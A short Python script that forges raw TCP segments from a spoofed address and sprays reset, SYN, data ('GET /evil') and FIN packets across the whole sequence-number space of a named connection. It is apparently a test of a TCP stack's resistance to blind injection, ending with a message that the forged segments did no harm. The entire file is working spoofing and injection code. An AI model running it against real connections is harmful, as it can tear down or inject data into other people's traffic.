#!/usr/bin/env python3
"""A blind attacker: knows addresses and ports of a connection, and guesses sequence numbers all over their space.

usage: inject.py FROM PORT TO PORT     sends to TO as if it came from FROM
"""
import random
import socket
import struct
import sys

source, source_port, target, target_port = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
STEP = 1 << 17  # no more than the window of the connection


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(seq, ack, flags, payload=b""):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    def header(sum_):
        return struct.pack("!HHIIBBHHH", source_port, target_port, seq, ack, 5 << 4, flags, 1024, sum_, 0) + payload
    tcp = header(checksum(ends + struct.pack("!BBH", 0, 6, 20 + len(payload)) + header(0)))
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends + tcp


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
draw, sent = random.Random(1), 0
for flags, payload in ((RST, b""), (RST | ACK, b""), (SYN, b""), (ACK | PSH, b"GET /evil"), (FIN | ACK, b"")):
    for seq in range(draw.randrange(STEP), 1 << 32, STEP):
        raw.sendto(packet(seq, draw.randrange(1 << 32), flags, payload), (target, 0))
        sent += 1
print(f"{sent} forged segments did no harm")
